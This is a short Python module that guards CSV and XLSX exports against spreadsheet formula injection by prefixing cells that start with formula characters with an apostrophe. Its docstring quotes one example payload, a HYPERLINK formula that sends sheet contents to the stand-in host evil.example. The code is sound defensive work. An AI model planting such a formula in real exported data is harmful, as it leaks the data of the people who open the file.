"""Cells for the files people open in a spreadsheet (CSV and XLSX exports).

Text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and
LibreOffice as a formula: a citizen's rating comment `=HYPERLINK("http://evil.example/?"&A1)`
would become a live link that leaks the sheet (OWASP "CSV injection", issue 19). Every export
writes its cells through `inert`, which makes such text start with an apostrophe, the
spreadsheets' own mark for "this is text". Numbers stay numbers.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """`value`, with text that a spreadsheet would run as a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(row):
    """A row (a list, or a dict for `csv.DictWriter`) with each cell made `inert`."""
    if isinstance(row, dict):
        return {key: inert(value) for key, value in row.items()}
    return [inert(value) for value in row]
